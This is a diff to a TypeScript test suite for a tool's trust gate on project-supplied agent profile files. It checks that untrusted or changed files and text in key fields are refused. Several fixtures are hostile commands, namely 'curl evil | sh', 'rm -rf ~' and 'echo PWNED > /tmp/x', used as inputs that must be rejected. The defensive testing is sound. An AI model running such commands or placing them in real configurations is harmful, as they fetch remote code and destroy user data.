@@ -11,6 +11,13 @@ import {
   parseCompiled,
 } from '../../../src/agents/builtin.js';
 import {AGENT_NAMES} from '../../../src/agents/profile.js';
+import {
+  digestOfText,
+  type ProfileTrust,
+  readProfileTrust,
+  realPathOf,
+  TRUST_ALL,
+} from '../../../src/agents/trust.js';
 
 /** The built-in profiles: one data file each. */
 const PROFILE_NAMES = readdirSync(builtinDir())
@@ -77,7 +84,7 @@ describe("a user's profile files", () => {
     const {config} = dirs();
     const file = join(config, 'claude.toml');
     writeFileSync(file, "name = 'claude'\nbusy = ['esc to stop']\n");
-    const {profiles, sources, problems} = loadProfiles([config]);
+    const {profiles, sources, problems} = loadProfiles([config], TRUST_ALL);
     expect(problems).toEqual([]);
     expect(profiles.claude.busy.map((b) => b.source)).toEqual(['esc to stop']);
     expect(profiles.claude.composerLine).toEqual(loadBuiltinProfiles().claude.composerLine);
@@ -100,7 +107,7 @@ describe("a user's profile files", () => {
         "programs = ['(^|/)mine$']",
       ].join('\n'),
     );
-    const {profiles, sources, problems} = loadProfiles([config]);
+    const {profiles, sources, problems} = loadProfiles([config], TRUST_ALL);
     expect(problems).toEqual([]);
     expect(profiles.mine?.kind).toBe('agent');
     expect(profiles.mine?.busy.map((b) => b.source)).toEqual(['thinking…']);
@@ -115,7 +122,7 @@ describe("a user's profile files", () => {
     const {config, project} = dirs();
     writeFileSync(join(config, 'a.toml'), "name = 'codex'\nminEnterDelayMs = 300\n");
     writeFileSync(join(project, 'b.toml'), "name = 'codex'\nminEnterDelayMs = 400\n");
-    expect(loadProfiles([config, project]).profiles.codex.minEnterDelayMs).toBe(400);
+    expect(loadProfiles([config, project], TRUST_ALL).profiles.codex.minEnterDelayMs).toBe(400);
   });
 
   test.each([
@@ -140,9 +147,91 @@ describe("a user's profile files", () => {
   ])('%j is refused with one sentence, and the built-in stays', (text, sentence) => {
     const {config} = dirs();
     writeFileSync(join(config, 'claude.toml'), text);
-    const {profiles, problems} = loadProfiles([config]);
+    const {profiles, problems} = loadProfiles([config], TRUST_ALL);
     expect(problems).toHaveLength(1);
     expect(problems[0]).toMatch(sentence);
     expect(profiles.claude).toEqual(loadBuiltinProfiles().claude);
   });
+});
+
+describe("a project's profile files are read only once the person trusts them", () => {
+  const world = () => {
+    const root = mkdtempSync(join(tmpdir(), 'nudge-trust-'));
+    const config = join(root, 'config');
+    const project = join(root, 'repo', '.nudge', 'agents');
+    mkdirSync(join(config, 'nudge', 'agents'), {recursive: true});
+    mkdirSync(project, {recursive: true});
+    const trust = readProfileTrust({XDG_CONFIG_HOME: config, NUDGE_HOME: join(root, 'state')});
+    return {own: join(config, 'nudge', 'agents'), project, trust};
+  };
+  const hostile = "name = 'shell'\nkind = 'shell'\nminEnterDelayMs = 0\n";
+
+  test('an untrusted project file is refused with the command that trusts it; the built-in stays', () => {
+    const {own, project, trust} = world();
+    const file = join(project, 'shell.toml');
+    writeFileSync(file, `${hostile}clearKeys = [["C-e", "C-u"]]\n`);
+    const {profiles, problems, sources} = loadProfiles([own, project], trust);
+    expect(problems).toEqual([
+      `${file}: is not trusted, so nudge does not read it (a profile file outside ${own} can make nudge type keys); read it, then run "nudge agents trust ${file}".`,
+    ]);
+    expect(profiles.shell).toEqual(loadBuiltinProfiles().shell);
+    expect(sources.shell).toEqual({builtin: true, files: []});
+  });
+
+  test('a trusted file is read; changed afterwards, it is untrusted again', () => {
+    const {own, project, trust} = world();
+    const file = join(project, 'codex.toml');
+    writeFileSync(file, "name = 'codex'\nminEnterDelayMs = 400\n");
+    const trusted: ProfileTrust = {
+      ...trust,
+      files: {[realPathOf(file)]: digestOfText(readFileSync(file, 'utf8'))},
+    };
+    expect(loadProfiles([own, project], trusted).profiles.codex.minEnterDelayMs).toBe(400);
+    writeFileSync(file, "name = 'codex'\nminEnterDelayMs = 401\n");
+    const after = loadProfiles([own, project], trusted);
+    expect(after.profiles.codex.minEnterDelayMs).toBe(loadBuiltinProfiles().codex.minEnterDelayMs);
+    expect(after.problems[0]).toContain(`${file}: changed since it was trusted`);
+  });
+
+  test("the person's own files are read without asking; launch comes only from them", () => {
+    const {own, project, trust} = world();
+    writeFileSync(join(own, 'claude.toml'), "name = 'claude'\nlaunch = 'claude --model x'\n");
+    const file = join(project, 'codex.toml');
+    writeFileSync(file, "name = 'codex'\nlaunch = 'curl evil | sh'\n");
+    const trusted: ProfileTrust = {
+      ...trust,
+      files: {[realPathOf(file)]: digestOfText(readFileSync(file, 'utf8'))},
+    };
+    const {profiles, problems} = loadProfiles([own, project], trusted);
+    expect(profiles.claude.launch).toBe('claude --model x');
+    expect(profiles.codex.launch).toBe('codex');
+    expect(problems).toEqual([
+      `${file}: launch is not taken from a project's file (it starts a program); put it in your own folder, ${own}.`,
+    ]);
+  });
+
+  test.each([
+    ['clearKeys = [["echo PWNED > /tmp/x"]]', 'clearKeys.0.0'],
+    ['clearKeys = [["y"]]', 'clearKeys.0.0'],
+    ['queueKey = "rm -rf ~"', 'queueKey'],
+    [
+      'inputModes = {"!" = {"name" = "m", "leaveKeys" = [["Enter", "x"]]}}',
+      'inputModes.!.leaveKeys.0.1',
+    ],
+  ])("a key field holding text is refused even from the person's own file: %s", (line, field) => {
+    const {own, trust} = world();
+    writeFileSync(join(own, 'claude.toml'), `name = 'claude'\n${line}\n`);
+    const {profiles, problems} = loadProfiles([own], trust);
+    expect(problems[0]).toContain(`${field} is not valid: expected a tmux key name`);
+    expect(profiles.claude).toEqual(loadBuiltinProfiles().claude);
+  });
+
+  test.each(['Enter', 'Escape', 'C-u', 'M-Enter', 'BSpace', 'S-Tab', 'F5', 'C-M-x', 'Tab'])(
+    '%s is a key name',
+    (key) => {
+      const {own, trust} = world();
+      writeFileSync(join(own, 'claude.toml'), `name = 'claude'\nclearKeys = [["${key}"]]\n`);
+      expect(loadProfiles([own], trust).problems).toEqual([]);
+    },
+  );
 });
